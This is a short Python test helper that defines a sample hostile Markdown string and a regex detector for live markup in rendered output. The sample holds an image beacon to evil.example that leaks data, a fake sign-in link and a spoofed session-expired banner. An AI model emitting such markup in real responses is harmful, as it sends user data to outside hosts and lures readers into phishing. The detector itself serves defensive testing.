"""What hostile corpus text looks like, and a check that rendered Markdown holds nothing live (UI and export tests)."""

from __future__ import annotations

import re

HOSTILE = ("Owners above 25% ![x](http://evil.example/beacon?leak=1) must be named "
           "[sign in](http://evil.example/login) :red[SESSION EXPIRED] :material/warning: "
           "<img src=http://evil.example/i.png> <http://evil.example/auto> see www.evil.example or "
           "https://evil.example/raw or mail x@evil.example $\\href{http://evil.example}{y}$ [ref]: http://evil.example")

_LIVE = re.compile(
    r"(?<!\\)!\[|(?<!\\)\[[^\]]*(?<!\\)\]\(|(?<!\\)\]\(|(?<!\\)<|(?<!\\):[a-z]+(?:-[a-z]+)?\[|(?<!\\):material/"
    r"|https?:(?!\\)|(?<![\\\w])www\.|[\w.]+(?<!\\)@[\w-]+(?<!\\)\.\w|(?<!\\)\$|(?<!\\)\]:"
)


def unescape(markdown: str) -> str:
    """Markdown as it reads once rendered: backslash escapes dropped."""
    return re.sub(r"\\(.)", r"\1", markdown)


def live_markup(markdown: str) -> list[str]:
    """Every piece of `markdown` a renderer would turn into an image, link, autolink, HTML, directive or math."""
    return _LIVE.findall(markdown)
